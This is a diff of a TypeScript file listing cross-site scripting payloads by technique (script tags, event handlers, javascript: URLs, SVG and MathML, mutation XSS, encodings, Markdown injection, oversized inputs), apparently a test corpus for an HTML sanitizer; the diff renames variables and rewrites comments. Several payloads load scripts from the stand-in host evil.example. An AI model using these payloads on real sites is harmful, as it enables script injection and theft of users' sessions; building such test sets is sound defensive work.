@@ -1,14 +1,15 @@
-// Texts that try to become a program in somebody else's browser, by the ways in which they try it. Made here from the rules of HTML, of URLs
-// and of Markdown: each family crosses places with disguises.
+// Cross-site scripting (XSS) payloads by technique, derived from the rules of HTML, URLs and
+// Markdown. Several families combine injection points with encodings.
 
+/** The code that a successful payload runs. */
 const RUN = 'steal(1)';
 
-const cross = (
-  places: readonly ((given: string) => string)[],
-  givens: readonly string[],
-): string[] => places.flatMap((place) => givens.map(place));
+const combine = (
+  templates: readonly ((value: string) => string)[],
+  values: readonly string[],
+): string[] => templates.flatMap((template) => values.map(template));
 
-/** Elements that run, load or take over. */
+/** Elements that run scripts, load resources or cover the page. */
 const elements = [
   `<script>${RUN}</script>`,
   `<ScRiPt >${RUN}</sCrIpT >`,
@@ -52,8 +53,8 @@ const elements = [
   '<x-evil>x</x-evil>',
 ];
 
-/** Attributes that run. */
-const handlers = cross(
+/** Event handler attributes. */
+const handlers = combine(
   [
     (on) => `<img src=x ${on}=${RUN}>`,
     (on) => `<p ${on}="${RUN}" tabindex=1 autofocus>x</p>`,
@@ -76,8 +77,8 @@ const handlers = cross(
   ],
 );
 
-/** Addresses that are programs, and what hides that they are. */
-const addresses = [
+/** URLs that run scripts or load resources, in several encodings. */
+const urls = [
   `javascript:${RUN}`,
   `JaVaScRiPt:${RUN}`,
   `java\tscript:${RUN}`,
@@ -97,7 +98,7 @@ const addresses = [
   '//evil.example/',
   '\\\\evil.example\\share',
 ];
-const links = cross(
+const links = combine(
   [
     (url) => `[x](${url})`,
     (url) => `[x](<${url}>)`,
@@ -108,10 +109,10 @@ const links = cross(
     (url) => `<img src="${url}">`,
     (url) => `<form><button formaction="${url}">x</button></form>`,
   ],
-  addresses,
+  urls,
 );
 
-/** Looks that cover, load or move. */
+/** Styles that cover the page, load resources or move content. */
 const styles = [
   '<p style="background:url(//evil.example/a.png)">x</p>',
   '<p style="position:fixed;inset:0;z-index:9">x</p>',
@@ -126,8 +127,8 @@ const styles = [
   '<marquee behavior=alternate onstart=steal(1)>x</marquee>',
 ];
 
-/** Drawings and formulas, in which other rules hold. */
-const foreign = [
+/** SVG and MathML, which have their own parsing rules. */
+const svgAndMathml = [
   '<svg onload=steal(1)>',
   '<svg><script>steal(1)</script></svg>',
   '<svg><script href=//evil.example/a.js /></svg>',
@@ -145,7 +146,7 @@ const foreign = [
   '<math><annotation-xml encoding="text/html"><img src=x onerror=steal(1)></annotation-xml></math>',
 ];
 
-/** What is harmless until a browser has put it in order. */
+/** Mutation XSS: HTML that becomes unsafe when the browser's parser repairs it. */
 const mutations = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=steal(1)>">',
   '<svg></p><style><a id="</style><img src=x onerror=steal(1)>">',
@@ -171,7 +172,7 @@ const mutations = [
   '<br><br/><br /></br><img/src/onerror=steal(1)>',
 ];
 
-/** Signs that look like others, or that are taken away late. */
+/** Encoded characters, look-alikes, and characters that are removed late. */
 const encodings = [
   '&lt;script&gt;steal(1)&lt;/script&gt;',
   '&amp;lt;script&amp;gt;steal(1)&amp;lt;/script&amp;gt;',
@@ -200,8 +201,8 @@ const encodings = [
   '[x](java\u0000script:steal(1))',
 ];
 
-/** What Markdown makes of it. */
-const marks = [
+/** HTML that a Markdown renderer produces. */
+const markdown = [
   '![a" onerror="steal(1)](https://desk.example/x.png)',
   '![a](https://desk.example/x.png "t\\" onload=\\"steal(1)")',
   '[a](https://desk.example "t\\" onclick=\\"steal(1)")',
@@ -237,8 +238,8 @@ const marks = [
   '<p v-html="steal(1)" ng-app ng-init="steal(1)" x-data x-init="steal(1)" hx-get=//evil.example>x</p>',
 ];
 
-/** Much of it: whoever stops half way leaves something open. */
-const long = [
+/** Inputs beyond size limits: a sanitizer that stops early leaves something open. */
+const oversized = [
   `${'<b>'.repeat(2_000)}<script>${RUN}</script>`,
   `${'<'.repeat(5_000)}script>${RUN}</script>`,
   `<img title="${'a'.repeat(20_000)}" src=x onerror=${RUN}>`,
@@ -249,15 +250,15 @@ const long = [
   `<p ${'x '.repeat(5_000)}onclick=${RUN}>x</p>`,
 ];
 
-/** The attempts by family. */
+/** The payloads by technique. */
 export const XSS_PAYLOADS: Readonly<Record<string, readonly string[]>> = {
   elements,
   handlers,
   links,
   styles,
-  foreign,
+  svgAndMathml,
   mutations,
   encodings,
-  marks,
-  long,
+  markdown,
+  oversized,
 };
